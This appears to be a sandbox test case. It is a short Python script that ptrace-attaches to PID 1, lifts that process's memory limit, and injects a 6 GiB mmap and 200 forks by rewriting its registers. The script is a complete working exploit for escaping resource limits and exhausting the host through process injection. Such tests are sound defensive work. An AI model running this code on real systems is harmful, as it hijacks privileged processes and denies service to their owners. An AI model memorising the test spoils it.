"""The room's first process, for which the limits do not hold, is traced and made to fork and to take memory.

must not get: the grader, process
points: 0
base: release
"""

# %% logistic
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs gs ds es f g".split()


class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in names]


def trace(request, data=None):
    return libc.ptrace(request, 1, None, data)


before = Registers()
if trace(16) == 0:  # attach
    os.waitpid(1, 0x40000000)
    trace(12, ctypes.byref(before))

    def call(number, *arguments):
        registers = Registers.from_buffer_copy(before)
        registers.rip, registers.orig_rax, registers.rax = before.rip - 2, 2**64 - 1, number
        for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), arguments):
            setattr(registers, name, value)
        trace(13, ctypes.byref(registers))
        trace(9)
        os.waitpid(1, 0x40000000)

    resource.prlimit(1, resource.RLIMIT_AS, (-1, -1))
    call(9, 0, 6 << 30, 3, 0x4022, 2**64 - 1, 0)  # 6 GiB of address space
    for _ in range(200):
        call(57)  # fork
